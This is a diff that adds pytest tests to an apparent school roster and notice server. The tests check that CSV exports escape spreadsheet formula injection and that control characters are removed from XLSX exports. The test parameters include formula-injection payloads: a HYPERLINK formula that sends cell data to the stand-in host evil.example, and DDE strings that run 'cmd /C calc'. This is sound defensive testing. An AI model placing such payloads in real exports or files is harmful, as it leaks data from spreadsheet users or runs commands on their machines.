@@ -82,3 +82,30 @@ def test_twiml_and_sms(app, db, hostile, school):
     answer = Phone(app, "+8613800138001").post("/ivr/sms", {"From": "+8613800138001", "To": "+1", "Body": "<x>1",
                                                            "MessageSid": "SMx"})
     ET.fromstring(answer.data)
+
+
+@pytest.mark.parametrize("formula", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+                                     "@SUM(1+9)*cmd|' /C calc'!A0"])
+def test_command_line_csv_is_as_safe_as_the_downloads(db, hostile, school, formula):
+    from click.testing import CliRunner
+
+    from server import db as database
+    from server.cli import cli
+    db.execute("UPDATE families SET display_name = ? WHERE id = ?", [formula, school["S1"]])
+    db.execute("UPDATE students SET name = ? WHERE family_id = ?", [formula, school["S1"]])
+    path = str(database.file_of(db))
+    for command in (["status", "--notice", str(hostile)], ["roster", "list"]):
+        result = CliRunner().invoke(cli, [*command, "--format", "csv", "--db", path])
+        assert result.exit_code == 0, result.output
+        cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+        assert not any(cell.startswith(("=", "+c", "@")) for cell in cells), command
+        assert any(cell.startswith("'") and formula in cell for cell in cells), command
+
+
+def test_a_control_character_in_a_name_does_not_break_the_spreadsheet(client, login, staff, db, hostile, school):
+    db.execute("UPDATE families SET display_name = ? WHERE id = ?", ["王\x07奶奶\x1b", school["S1"]])
+    login("admin", "admin-pass")
+    reply = client.get(f"/notices/{hostile}/unread.xlsx")
+    assert reply.status_code == 200
+    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(reply.data)).active.iter_rows() for c in row]
+    assert "王奶奶" in values
